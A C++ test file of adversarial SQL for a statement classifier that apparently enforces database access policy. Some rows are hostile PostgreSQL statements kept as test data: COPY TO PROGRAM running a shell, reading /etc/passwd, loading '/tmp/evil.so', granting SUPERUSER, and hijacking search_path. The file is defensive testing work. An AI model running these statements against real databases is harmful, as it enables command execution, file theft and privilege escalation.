// Adversarial corpus for sql::Classify: one row per statement, checked field by field. Tables
// read and written are compared exactly (a missing write is a policy bypass; a spurious one
// is a false hold), flags all at once.
#include "userspace/sql/classify.h"

#include <chrono>
#include <cstdint>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace interlock::sql {
namespace {

using ::testing::ElementsAre;
using ::testing::ElementsAreArray;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// Boolean facts of a statement, as one bit set so a row states all of them.
enum Fact : uint32_t {
  kWhere = 1 << 0,
  kLimit = 1 << 1,
  kStar = 1 << 2,
  kExplain = 1 << 3,
  kAnalyze = 1 << 4,
  kRowLock = 1 << 5,
  kInto = 1 << 6,
};

uint32_t FactsOf(const v1::SqlStatement& s) {
  uint32_t facts = 0;
  if (s.has_where()) facts |= kWhere;
  if (s.has_limit()) facts |= kLimit;
  if (s.selects_star()) facts |= kStar;
  if (s.explain()) facts |= kExplain;
  if (s.explain_analyze()) facts |= kAnalyze;
  if (s.row_locking()) facts |= kRowLock;
  if (s.select_into()) facts |= kInto;
  return facts;
}

std::vector<std::string> Names(const google::protobuf::RepeatedPtrField<v1::TableRef>& refs) {
  std::vector<std::string> out;
  for (const v1::TableRef& ref : refs) out.push_back(ref.qualified_name());
  return out;
}

struct Row {
  const char* label;
  std::string sql;
  v1::StatementKind kind;
  std::vector<std::string> read;
  std::vector<std::string> written;
  std::vector<std::string> functions = {};
  uint32_t facts = 0;
  // Checked when set.
  const char* detail = nullptr;
  std::vector<std::string> columns = {};
  v1::StatementKind inner = v1::STATEMENT_KIND_UNSPECIFIED;

  Row Functions(std::vector<std::string> v) && {
    functions = std::move(v);
    return std::move(*this);
  }
  Row Facts(uint32_t v) && {
    facts = v;
    return std::move(*this);
  }
  Row Detail(const char* v) && {
    detail = v;
    return std::move(*this);
  }
  Row Columns(std::vector<std::string> v) && {
    columns = std::move(v);
    return std::move(*this);
  }
  Row Inner(v1::StatementKind v) && {
    inner = v;
    return std::move(*this);
  }
};

void PrintTo(const Row& row, std::ostream* os) { *os << row.label << ": " << row.sql; }

using v1::STATEMENT_KIND_CALL;
using v1::STATEMENT_KIND_CLOSE_CURSOR;
using v1::STATEMENT_KIND_COPY;
using v1::STATEMENT_KIND_DDL;
using v1::STATEMENT_KIND_DEALLOCATE;
using v1::STATEMENT_KIND_DECLARE;
using v1::STATEMENT_KIND_DELETE;
using v1::STATEMENT_KIND_DO;
using v1::STATEMENT_KIND_EXECUTE;
using v1::STATEMENT_KIND_EXPLAIN;
using v1::STATEMENT_KIND_FETCH;
using v1::STATEMENT_KIND_GRANT;
using v1::STATEMENT_KIND_INSERT;
using v1::STATEMENT_KIND_LOCK;
using v1::STATEMENT_KIND_MERGE;
using v1::STATEMENT_KIND_NOTIFY;
using v1::STATEMENT_KIND_OTHER;
using v1::STATEMENT_KIND_PREPARE;
using v1::STATEMENT_KIND_RESET;
using v1::STATEMENT_KIND_ROLE;
using v1::STATEMENT_KIND_SELECT;
using v1::STATEMENT_KIND_SET;
using v1::STATEMENT_KIND_SHOW;
using v1::STATEMENT_KIND_TRANSACTION;
using v1::STATEMENT_KIND_TRUNCATE;
using v1::STATEMENT_KIND_UPDATE;
using v1::STATEMENT_KIND_VACUUM_ANALYZE;

const std::vector<Row>& Corpus() {
  static const auto* rows = new std::vector<Row>{
      // clang-format off
      // ---- plain reads, names and quoting ----
      Row{"select_constant", "SELECT 1", STATEMENT_KIND_SELECT, {}, {}},
      Row{"schema_qualified", "SELECT id, email FROM public.customers", STATEMENT_KIND_SELECT,
          {"public.customers"}, {}}.Columns({"id", "email"}),
      Row{"case_folding", "SELECT * FROM Public.CUSTOMERS", STATEMENT_KIND_SELECT,
          {"public.customers"}, {}}.Facts(kStar),
      Row{"quoted_identifier_keeps_case", "SELECT * FROM \"Customers\" JOIN customers USING (id)",
          STATEMENT_KIND_SELECT, {"\"Customers\"", "customers"}, {}}.Facts(kStar),
      Row{"quoted_dot_is_one_name", "SELECT * FROM \"public.customers\"", STATEMENT_KIND_SELECT,
          {"\"public.customers\""}, {}}.Facts(kStar),
      Row{"unicode_escape_identifier", "SELECT * FROM U&\"d\\0061t\\+000061\"",
          STATEMENT_KIND_SELECT, {"data"}, {}}.Facts(kStar),
      Row{"unicode_escape_custom_char", "SELECT * FROM U&\"!0063ustomers\" UESCAPE '!'",
          STATEMENT_KIND_SELECT, {"customers"}, {}}.Facts(kStar),
      // PostgreSQL truncates identifiers to 63 bytes; so must the names we report.
      Row{"long_identifier_truncated", "SELECT 1 FROM " + std::string(70, 'a'),
          STATEMENT_KIND_SELECT, {std::string(63, 'a')}, {}},
      Row{"three_part_name", "SELECT * FROM ONLY db.s.t", STATEMENT_KIND_SELECT, {"db.s.t"},
          {}}.Facts(kStar),
      Row{"escape_string_with_quotes",
          "SELECT E'it\\'s; DELETE FROM t; --', 'a''b; DROP TABLE t' FROM x", STATEMENT_KIND_SELECT,
          {"x"}, {}},
      Row{"columns_and_star", "SELECT c.email, t.* FROM customers c, t", STATEMENT_KIND_SELECT,
          {"customers", "t"}, {}}.Facts(kStar).Columns({"c.email", "t.*"}),
      Row{"column_inside_expression", "SELECT lower(\"Email\") AS e FROM customers",
          STATEMENT_KIND_SELECT, {"customers"}, {}}.Functions({"lower"}).Columns({"\"Email\""}),
      Row{"scalar_subquery_output", "SELECT (SELECT ssn FROM people p WHERE p.id = o.pid) FROM o",
          STATEMENT_KIND_SELECT, {"people", "o"}, {}}.Columns({"ssn"}),
      Row{"table_command", "TABLE secrets", STATEMENT_KIND_SELECT, {"secrets"}, {}}.Facts(kStar),
      Row{"values", "VALUES (1, 'a'), (2, 'b')", STATEMENT_KIND_SELECT, {}, {}}.Detail("VALUES"),

      // ---- comments and quoting that hide keywords ----
      Row{"line_comment", "SELECT 1 -- ; DELETE FROM t\n", STATEMENT_KIND_SELECT, {}, {}},
      Row{"block_comment", "/* DROP TABLE t; */ SELECT * FROM a", STATEMENT_KIND_SELECT, {"a"},
          {}}.Facts(kStar),
      Row{"nested_block_comment", "SELECT 1 /* outer /* DELETE FROM t; */ still comment */ FROM a",
          STATEMENT_KIND_SELECT, {"a"}, {}},
      Row{"dollar_quote", "SELECT $$DELETE FROM t$$ FROM a", STATEMENT_KIND_SELECT, {"a"}, {}},
      Row{"tagged_dollar_quote", "SELECT $x$ $$ DELETE FROM t; $$ $x$ FROM a",
          STATEMENT_KIND_SELECT, {"a"}, {}},
      Row{"keyword_as_quoted_table", "SELECT * FROM \"delete\"", STATEMENT_KIND_SELECT, {"delete"},
          {}}.Facts(kStar),

      // ---- joins, subqueries, set operations, CTEs ----
      Row{"join_and_subquery_in_where",
          "SELECT a.x FROM a LEFT JOIN b ON a.id = b.id WHERE a.y IN (SELECT y FROM c)",
          STATEMENT_KIND_SELECT, {"a", "b", "c"}, {}}.Facts(kWhere),
      Row{"derived_table", "SELECT * FROM (SELECT * FROM inner_t) s", STATEMENT_KIND_SELECT,
          {"inner_t"}, {}}.Facts(kStar),
      Row{"lateral", "SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.a = a.id) s",
          STATEMENT_KIND_SELECT, {"a", "b"}, {}}.Facts(kStar),
      Row{"set_operations", "SELECT x FROM a UNION SELECT x FROM b EXCEPT SELECT x FROM c",
          STATEMENT_KIND_SELECT, {"a", "b", "c"}, {}}.Columns({"x"}),
      Row{"cte_name_is_not_a_table", "WITH t AS (SELECT * FROM src) SELECT * FROM t",
          STATEMENT_KIND_SELECT, {"src"}, {}}.Facts(kStar),
      Row{"cte_cannot_see_itself", "WITH t AS (SELECT * FROM t) SELECT * FROM t",
          STATEMENT_KIND_SELECT, {"t"}, {}}.Facts(kStar),
      Row{"cte_sees_only_earlier",
          "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", STATEMENT_KIND_SELECT,
          {"b"}, {}}.Facts(kStar),
      Row{"recursive_cte",
          "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r",
          STATEMENT_KIND_SELECT, {}, {}}.Facts(kStar),
      Row{"cte_scope_ends_with_subquery",
          "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", STATEMENT_KIND_SELECT, {"x"},
          {}}.Facts(kStar),
      Row{"qualified_name_is_never_a_cte", "WITH t AS (SELECT 1) SELECT * FROM public.t",
          STATEMENT_KIND_SELECT, {"public.t"}, {}}.Facts(kStar),
      Row{"data_modifying_cte_in_select", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
          STATEMENT_KIND_SELECT, {"t"}, {"t"}}.Facts(kStar),
      Row{"insert_cte_without_returning",
          "WITH x AS (INSERT INTO audit VALUES (1)) SELECT * FROM a", STATEMENT_KIND_SELECT, {"a"},
          {"audit"}}.Facts(kStar),
      Row{"update_cte_in_subquery",
          "SELECT * FROM a WHERE id IN "
          "(WITH u AS (UPDATE t SET x = 1 RETURNING id) SELECT id FROM u)",
          STATEMENT_KIND_SELECT, {"a", "t"}, {"t"}}.Facts(kWhere | kStar),

      // ---- writes ----
      Row{"insert_values_with_function",
          "INSERT INTO t (a, b) VALUES (1, pg_read_file('/etc/passwd'))", STATEMENT_KIND_INSERT, {},
          {"t"}}.Functions({"pg_read_file"}),
      Row{"insert_select", "INSERT INTO archive SELECT * FROM live WHERE ts < now()",
          STATEMENT_KIND_INSERT, {"live"}, {"archive"}}.Functions({"now"}),
      Row{"insert_returning_reads_target", "INSERT INTO t VALUES (1) RETURNING *",
          STATEMENT_KIND_INSERT, {"t"}, {"t"}}.Facts(kStar).Columns({"*"}),
      Row{"insert_into_cte_name_is_the_table", "WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t",
          STATEMENT_KIND_INSERT, {}, {"t"}},
      Row{"upsert",
          "INSERT INTO t (id, x) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET x = excluded.x",
          STATEMENT_KIND_INSERT, {}, {"t"}},
      Row{"update_without_where", "UPDATE t SET a = 1", STATEMENT_KIND_UPDATE, {}, {"t"}},
      Row{"update_with_where", "UPDATE t SET a = 1 WHERE id = 2", STATEMENT_KIND_UPDATE, {},
          {"t"}}.Facts(kWhere),
      Row{"update_where_current_of", "UPDATE t SET a = 1 WHERE CURRENT OF c", STATEMENT_KIND_UPDATE,
          {}, {"t"}}.Facts(kWhere),
      Row{"update_from", "UPDATE t SET a = u.b FROM u WHERE t.id = u.id", STATEMENT_KIND_UPDATE,
          {"u"}, {"t"}}.Facts(kWhere),
      Row{"delete_without_where", "DELETE FROM t", STATEMENT_KIND_DELETE, {}, {"t"}},
      Row{"delete_using", "DELETE FROM t USING u WHERE t.id = u.id AND u.gone",
          STATEMENT_KIND_DELETE, {"u"}, {"t"}}.Facts(kWhere),
      Row{"delete_returning", "DELETE FROM s.t WHERE id = 1 RETURNING email", STATEMENT_KIND_DELETE,
          {"s.t"}, {"s.t"}}.Facts(kWhere).Columns({"email"}),
      Row{"merge",
          "MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id "
          "WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
          STATEMENT_KIND_MERGE, {"src"}, {"t"}},
      Row{"truncate", "TRUNCATE a, b.c RESTART IDENTITY", STATEMENT_KIND_TRUNCATE, {},
          {"a", "b.c"}},
      Row{"select_into", "SELECT * INTO newt FROM t", STATEMENT_KIND_DDL, {"t"},
          {"newt"}}.Facts(kStar | kInto).Detail("SELECT INTO").Inner(STATEMENT_KIND_SELECT),
      Row{"create_table_as", "CREATE TABLE copy AS SELECT * FROM t WHERE x", STATEMENT_KIND_DDL,
          {"t"},
          {"copy"}}.Facts(kInto | kWhere).Detail("CREATE TABLE AS").Inner(STATEMENT_KIND_SELECT),

      // ---- row locks, limits ----
      Row{"for_update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar | kWhere | kRowLock),
      Row{"for_share_of_alias", "SELECT * FROM t x JOIN u ON true FOR SHARE OF x NOWAIT",
          STATEMENT_KIND_SELECT, {"t", "u"}, {}}.Facts(kStar | kRowLock),
      Row{"lock_in_subquery", "SELECT (SELECT 1 FROM t FOR KEY SHARE)", STATEMENT_KIND_SELECT,
          {"t"}, {}}.Facts(kRowLock),
      Row{"limit", "SELECT * FROM t LIMIT 10", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar | kLimit),
      Row{"fetch_first", "SELECT * FROM t FETCH FIRST 5 ROWS ONLY", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar | kLimit),
      Row{"limit_all_is_no_limit", "SELECT * FROM t LIMIT ALL", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar),
      Row{"limit_null_is_no_limit", "SELECT * FROM t LIMIT NULL", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar),
      Row{"offset_is_no_limit", "SELECT * FROM t OFFSET 10", STATEMENT_KIND_SELECT, {"t"},
          {}}.Facts(kStar),
      Row{"inner_limit_is_not_outer", "SELECT * FROM (SELECT * FROM t LIMIT 1) s",
          STATEMENT_KIND_SELECT, {"t"}, {}}.Facts(kStar),
      Row{"where_on_one_arm_only", "SELECT 1 FROM a WHERE x UNION SELECT 1 FROM b",
          STATEMENT_KIND_SELECT, {"a", "b"}, {}},

      // ---- functions anywhere ----
      Row{"dangerous_function_in_where_subquery",
          "SELECT * FROM t WHERE id = (SELECT 1 FROM u WHERE pg_sleep(10) IS NOT NULL)",
          STATEMENT_KIND_SELECT, {"t", "u"}, {}}.Functions({"pg_sleep"}).Facts(kStar | kWhere),
      Row{"lo_export", "SELECT lo_export(loid, '/tmp/x') FROM pg_largeobject_metadata",
          STATEMENT_KIND_SELECT, {"pg_largeobject_metadata"},
          {}}.Functions({"lo_export"}).Columns({"loid"}),
      Row{"dblink_in_from", "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
          STATEMENT_KIND_SELECT, {}, {}}.Functions({"dblink"}).Facts(kStar),
      Row{"qualified_function", "SELECT pg_catalog.pg_read_file('x'), PG_SLEEP(1), \"PG_SLEEP\"(1)",
          STATEMENT_KIND_SELECT, {},
          {}}.Functions({"pg_catalog.pg_read_file", "pg_sleep", "\"PG_SLEEP\""}),
      Row{"function_in_order_by_and_having",
          "SELECT a FROM t GROUP BY a HAVING count(*) > f1() ORDER BY f2(a)", STATEMENT_KIND_SELECT,
          {"t"}, {}}.Functions({"count", "f1", "f2"}),
      Row{"function_in_window_filter",
          "SELECT sum(x) FILTER (WHERE g(x)) OVER (PARTITION BY h(y)) FROM t",
          STATEMENT_KIND_SELECT, {"t"}, {}}.Functions({"sum", "g", "h"}),
      Row{"tablesample_method", "SELECT * FROM t TABLESAMPLE bernoulli(10)", STATEMENT_KIND_SELECT,
          {"t"}, {}}.Functions({"bernoulli"}).Facts(kStar),
      Row{"function_in_case_and_cast", "SELECT CASE WHEN a THEN f(1)::text ELSE g() END FROM t",
          STATEMENT_KIND_SELECT, {"t"}, {}}.Functions({"f", "g"}),

      // ---- COPY ----
      Row{"copy_query_to_stdout", "COPY (SELECT id, email FROM customers) TO STDOUT",
          STATEMENT_KIND_COPY, {"customers"}, {}}.Columns({"id", "email"}),
      Row{"copy_table_to_program", "COPY t TO PROGRAM 'sh -c id'", STATEMENT_KIND_COPY, {"t"},
          {}}.Facts(kStar),
      Row{"copy_from_stdin", "COPY t (a, b) FROM STDIN", STATEMENT_KIND_COPY, {},
          {"t"}}.Columns({"a", "b"}),
      Row{"copy_from_file", "COPY t FROM '/etc/passwd'", STATEMENT_KIND_COPY, {},
          {"t"}}.Facts(kStar),

      // ---- EXPLAIN ----
      Row{"explain_analyze_delete", "EXPLAIN ANALYZE DELETE FROM t", STATEMENT_KIND_EXPLAIN, {},
          {"t"}}.Facts(kExplain | kAnalyze).Detail("EXPLAIN ANALYZE").Inner(STATEMENT_KIND_DELETE),
      Row{"explain_option_analyze", "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b",
          STATEMENT_KIND_EXPLAIN, {},
          {"t"}}.Facts(kExplain | kAnalyze | kWhere).Inner(STATEMENT_KIND_UPDATE),
      Row{"explain_analyze_on", "EXPLAIN (analyse on) SELECT * FROM t", STATEMENT_KIND_EXPLAIN,
          {"t"}, {}}.Facts(kExplain | kAnalyze | kStar),
      Row{"explain_analyze_false", "EXPLAIN (ANALYZE false) DELETE FROM t", STATEMENT_KIND_EXPLAIN,
          {}, {"t"}}.Facts(kExplain).Inner(STATEMENT_KIND_DELETE),
      Row{"explain_analyze_off_then_on", "EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t",
          STATEMENT_KIND_EXPLAIN, {}, {"t"}}.Facts(kExplain | kAnalyze),
      Row{"explain_select", "EXPLAIN SELECT * FROM t LIMIT 1", STATEMENT_KIND_EXPLAIN, {"t"},
          {}}.Facts(kExplain | kStar | kLimit).Inner(STATEMENT_KIND_SELECT),
      Row{"explain_create_table_as", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t",
          STATEMENT_KIND_EXPLAIN, {"t"},
          {"x"}}.Facts(kExplain | kAnalyze | kInto).Inner(STATEMENT_KIND_DDL),

      // ---- prepared statements and cursors ----
      Row{"prepare_delete", "PREPARE p(int) AS DELETE FROM t WHERE id = $1", STATEMENT_KIND_PREPARE,
          {}, {"t"}}.Facts(kWhere).Detail("p").Inner(STATEMENT_KIND_DELETE),
      Row{"prepare_select", "PREPARE q AS SELECT secret FROM vault", STATEMENT_KIND_PREPARE,
          {"vault"}, {}}.Detail("q").Columns({"secret"}).Inner(STATEMENT_KIND_SELECT),
      Row{"execute", "EXECUTE p(1, pg_sleep(5))", STATEMENT_KIND_EXECUTE, {},
          {}}.Functions({"pg_sleep"}).Detail("p"),
      Row{"deallocate", "DEALLOCATE PREPARE p", STATEMENT_KIND_DEALLOCATE, {}, {}}.Detail("p"),
      Row{"deallocate_all", "DEALLOCATE ALL", STATEMENT_KIND_DEALLOCATE, {}, {}}.Detail("ALL"),
      Row{"declare_cursor", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE",
          STATEMENT_KIND_DECLARE, {"t"},
          {}}.Facts(kStar | kRowLock).Detail("c").Inner(STATEMENT_KIND_SELECT),
      Row{"fetch", "FETCH FORWARD 10 FROM c", STATEMENT_KIND_FETCH, {}, {}}.Detail("c"),
      Row{"move", "MOVE LAST IN c", STATEMENT_KIND_FETCH, {}, {}}.Detail("c"),
      Row{"close", "CLOSE c", STATEMENT_KIND_CLOSE_CURSOR, {}, {}}.Detail("c"),

      // ---- privileges and roles ----
      Row{"grant_table", "GRANT SELECT, UPDATE ON public.t, u TO bob", STATEMENT_KIND_GRANT, {},
          {"public.t", "u"}}.Detail("GRANT"),
      Row{"revoke_schema", "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob",
          STATEMENT_KIND_GRANT, {}, {}}.Detail("REVOKE"),
      Row{"grant_role", "GRANT pg_read_server_files TO agent", STATEMENT_KIND_GRANT, {},
          {}}.Detail("GRANT ROLE"),
      Row{"default_privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
          STATEMENT_KIND_GRANT, {}, {}},
      Row{"create_role", "CREATE ROLE x SUPERUSER LOGIN", STATEMENT_KIND_ROLE, {},
          {}}.Detail("CREATE ROLE"),
      Row{"create_user", "CREATE USER x PASSWORD 'p'", STATEMENT_KIND_ROLE, {},
          {}}.Detail("CREATE USER"),
      Row{"alter_role", "ALTER ROLE agent WITH SUPERUSER", STATEMENT_KIND_ROLE, {}, {}},
      Row{"alter_role_set", "ALTER ROLE agent SET search_path = evil", STATEMENT_KIND_ROLE, {}, {}},
      Row{"drop_user", "DROP USER IF EXISTS x", STATEMENT_KIND_ROLE, {}, {}},
      Row{"set_role", "SET ROLE admin", STATEMENT_KIND_ROLE, {}, {}}.Detail("SET ROLE"),
      Row{"set_local_role", "SET LOCAL ROLE admin", STATEMENT_KIND_ROLE, {}, {}},
      Row{"set_role_as_parameter", "SET \"Role\" = 'admin'", STATEMENT_KIND_ROLE, {},
          {}}.Detail("SET ROLE"),
      Row{"reset_role", "RESET ROLE", STATEMENT_KIND_ROLE, {}, {}}.Detail("RESET ROLE"),
      Row{"set_session_authorization", "SET SESSION AUTHORIZATION postgres", STATEMENT_KIND_ROLE,
          {}, {}}.Detail("SET SESSION AUTHORIZATION"),
      Row{"reassign_owned", "REASSIGN OWNED BY a TO b", STATEMENT_KIND_ROLE, {}, {}},

      // ---- session ----
      Row{"set", "SET search_path = evil, public", STATEMENT_KIND_SET, {},
          {}}.Detail("search_path"),
      Row{"set_transaction", "SET TRANSACTION READ WRITE", STATEMENT_KIND_SET, {}, {}},
      Row{"reset", "RESET statement_timeout", STATEMENT_KIND_RESET, {},
          {}}.Detail("statement_timeout"),
      Row{"reset_all", "RESET ALL", STATEMENT_KIND_RESET, {}, {}}.Detail("ALL"),
      Row{"discard", "DISCARD ALL", STATEMENT_KIND_RESET, {}, {}}.Detail("DISCARD ALL"),
      Row{"show", "SHOW server_version", STATEMENT_KIND_SHOW, {}, {}}.Detail("server_version"),
      Row{"begin", "BEGIN ISOLATION LEVEL SERIALIZABLE", STATEMENT_KIND_TRANSACTION, {},
          {}}.Detail("BEGIN"),
      Row{"commit", "COMMIT", STATEMENT_KIND_TRANSACTION, {}, {}}.Detail("COMMIT"),
      Row{"end", "END", STATEMENT_KIND_TRANSACTION, {}, {}}.Detail("COMMIT"),
      Row{"rollback_to", "ROLLBACK TO SAVEPOINT s", STATEMENT_KIND_TRANSACTION, {},
          {}}.Detail("ROLLBACK TO"),
      Row{"prepare_transaction", "PREPARE TRANSACTION 'x'", STATEMENT_KIND_TRANSACTION, {},
          {}}.Detail("PREPARE TRANSACTION"),
      Row{"listen", "LISTEN jobs", STATEMENT_KIND_NOTIFY, {}, {}}.Detail("LISTEN jobs"),
      Row{"notify", "NOTIFY jobs, 'x'", STATEMENT_KIND_NOTIFY, {}, {}}.Detail("NOTIFY jobs"),
      Row{"unlisten", "UNLISTEN *", STATEMENT_KIND_NOTIFY, {}, {}}.Detail("UNLISTEN *"),

      // ---- code ----
      Row{"do_block", "DO $$ BEGIN DELETE FROM t; END $$", STATEMENT_KIND_DO, {},
          {}}.Detail("language plpgsql"),
      Row{"do_language", "DO LANGUAGE plpython3u $body$ import os $body$", STATEMENT_KIND_DO, {},
          {}}.Detail("language plpython3u"),
      Row{"call", "CALL admin.rotate_keys(now())", STATEMENT_KIND_CALL, {},
          {}}.Functions({"admin.rotate_keys", "now"}).Detail("admin.rotate_keys"),
      Row{"load", "LOAD '/tmp/evil.so'", STATEMENT_KIND_OTHER, {}, {}}.Detail("LOAD"),

      // ---- DDL and maintenance ----
      Row{"create_table", "CREATE TABLE t (id int REFERENCES parent (id), v text DEFAULT f())",
          STATEMENT_KIND_DDL, {"parent"}, {"t"}}.Functions({"f"}).Detail("CREATE TABLE"),
      Row{"alter_table", "ALTER TABLE s.t ADD COLUMN x int", STATEMENT_KIND_DDL, {},
          {"s.t"}}.Detail("ALTER TABLE"),
      Row{"drop_tables", "DROP TABLE IF EXISTS a, b.c CASCADE", STATEMENT_KIND_DDL, {},
          {"a", "b.c"}}.Detail("DROP TABLE"),
      Row{"drop_view", "DROP MATERIALIZED VIEW mv", STATEMENT_KIND_DDL, {},
          {"mv"}}.Detail("DROP MATERIALIZED VIEW"),
      Row{"drop_trigger", "DROP TRIGGER trg ON s.t", STATEMENT_KIND_DDL, {},
          {"s.t"}}.Detail("DROP TRIGGER"),
      Row{"comment_on_table", "COMMENT ON TABLE s.t IS 'x'", STATEMENT_KIND_DDL, {},
          {"s.t"}}.Detail("COMMENT"),
      Row{"drop_function", "DROP FUNCTION f(int)", STATEMENT_KIND_DDL, {},
          {}}.Detail("DROP FUNCTION"),
      Row{"create_view", "CREATE VIEW v AS SELECT * FROM t", STATEMENT_KIND_DDL, {"t"},
          {"v"}}.Detail("CREATE VIEW"),
      Row{"create_index", "CREATE INDEX CONCURRENTLY ON t (lower(email))", STATEMENT_KIND_DDL, {},
          {"t"}}.Functions({"lower"}),
      Row{"rename_table", "ALTER TABLE t RENAME TO u", STATEMENT_KIND_DDL, {},
          {"t"}}.Detail("ALTER TABLE"),
      Row{"create_rule", "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
          STATEMENT_KIND_DDL, {}, {"t", "u"}},
      Row{"create_function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
          STATEMENT_KIND_DDL, {}, {}}.Detail("CREATE FUNCTION"),
      Row{"create_extension", "CREATE EXTENSION dblink", STATEMENT_KIND_DDL, {},
          {}}.Detail("CREATE EXTENSION"),
      Row{"alter_system", "ALTER SYSTEM SET archive_command = 'sh'", STATEMENT_KIND_DDL, {},
          {}}.Detail("ALTER SYSTEM"),
      Row{"vacuum", "VACUUM (FULL, ANALYZE) t", STATEMENT_KIND_VACUUM_ANALYZE, {},
          {"t"}}.Detail("VACUUM"),
      Row{"analyze", "ANALYZE t (a)", STATEMENT_KIND_VACUUM_ANALYZE, {}, {"t"}}.Detail("ANALYZE"),
      Row{"refresh", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", STATEMENT_KIND_VACUUM_ANALYZE, {},
          {"mv"}},
      Row{"lock", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", STATEMENT_KIND_LOCK, {"t"}, {}},
      // clang-format on
  };
  return *rows;
}

class CorpusTest : public ::testing::TestWithParam<Row> {};

TEST_P(CorpusTest, ClassifiesAsExpected) {
  const Row& row = GetParam();
  absl::StatusOr<v1::SqlClassification> c = Classify(row.sql);
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_FALSE(c->parse_error()) << c->error();
  ASSERT_EQ(c->statements_size(), 1);
  EXPECT_FALSE(c->multi_statement());
  EXPECT_EQ(c->fingerprint().size(), 16u);
  const v1::SqlStatement& s = c->statements(0);
  EXPECT_EQ(s.kind(), row.kind) << v1::StatementKind_Name(s.kind());
  EXPECT_THAT(Names(s.tables_read()), ElementsAreArray(row.read));
  EXPECT_THAT(Names(s.tables_written()), ElementsAreArray(row.written));
  EXPECT_THAT(s.functions(), ElementsAreArray(row.functions));
  EXPECT_EQ(FactsOf(s), row.facts);
  if (row.detail != nullptr) {
    EXPECT_EQ(s.kind_detail(), row.detail);
  }
  if (!row.columns.empty()) {
    EXPECT_THAT(s.columns(), ElementsAreArray(row.columns));
  }
  if (row.inner != v1::STATEMENT_KIND_UNSPECIFIED) {
    EXPECT_EQ(s.inner_kind(), row.inner);
  }
  EXPECT_EQ(s.location(), 0u);
  EXPECT_EQ(s.length(), row.sql.size());
}

INSTANTIATE_TEST_SUITE_P(Corpus, CorpusTest, ::testing::ValuesIn(Corpus()),
                         [](const ::testing::TestParamInfo<Row>& info) {
                           return std::string(info.param.label);
                         });

// Every prefix of every corpus statement (most are syntax errors) classifies without an
// internal error: truncated input is ordinary input.
TEST(Classify, EveryPrefixOfTheCorpusIsHandled) {
  int parse_errors = 0;
  for (const Row& row : Corpus()) {
    for (size_t len = 0; len <= row.sql.size(); ++len) {
      absl::StatusOr<v1::SqlClassification> c = Classify(row.sql.substr(0, len));
      ASSERT_TRUE(c.ok()) << row.label << " at " << len << ": " << c.status();
      if (c->parse_error()) {
        ++parse_errors;
        EXPECT_THAT(c->statements(), IsEmpty());
        EXPECT_FALSE(c->error().empty());
        EXPECT_TRUE(c->fingerprint().empty());
      }
    }
  }
  EXPECT_GT(parse_errors, 0);
}

// ---- multi-statement strings ----

TEST(Classify, MultiStatementHidesNothing) {
  const std::string sql = "SELECT 1; DROP TABLE x";
  absl::StatusOr<v1::SqlClassification> c = Classify(sql);
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_TRUE(c->multi_statement());
  ASSERT_EQ(c->statements_size(), 2);
  EXPECT_EQ(c->statements(0).kind(), v1::STATEMENT_KIND_SELECT);
  EXPECT_EQ(c->statements(1).kind(), v1::STATEMENT_KIND_DDL);
  EXPECT_EQ(c->statements(1).kind_detail(), "DROP TABLE");
  EXPECT_THAT(Names(c->statements(1).tables_written()), ElementsAre("x"));
  // Locations cover the text of each statement.
  EXPECT_EQ(c->statements(0).location(), 0u);
  EXPECT_EQ(c->statements(0).length(), 8u);
  EXPECT_EQ(sql.substr(c->statements(1).location(), c->statements(1).length()), " DROP TABLE x");
}

TEST(Classify, SemicolonsInsideLiteralsDoNotSplit) {
  absl::StatusOr<v1::SqlClassification> c =
      Classify("SELECT ';DELETE FROM t;', $$;DROP TABLE t;$$ /* ; */ -- ;\n");
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_EQ(c->statements_size(), 1);
  EXPECT_FALSE(c->multi_statement());
}

TEST(Classify, PrepareThenExecuteInOneString) {
  absl::StatusOr<v1::SqlClassification> c =
      Classify("PREPARE wipe AS DELETE FROM accounts; EXECUTE wipe;");
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_EQ(c->statements_size(), 2);
  EXPECT_EQ(c->statements(0).kind(), v1::STATEMENT_KIND_PREPARE);
  EXPECT_EQ(c->statements(0).inner_kind(), v1::STATEMENT_KIND_DELETE);
  EXPECT_THAT(Names(c->statements(0).tables_written()), ElementsAre("accounts"));
  EXPECT_FALSE(c->statements(0).has_where());
  EXPECT_EQ(c->statements(1).kind(), v1::STATEMENT_KIND_EXECUTE);
  EXPECT_EQ(c->statements(1).kind_detail(), "wipe");
}

TEST(Classify, EmptyAndCommentOnlyStringsHaveNoStatements) {
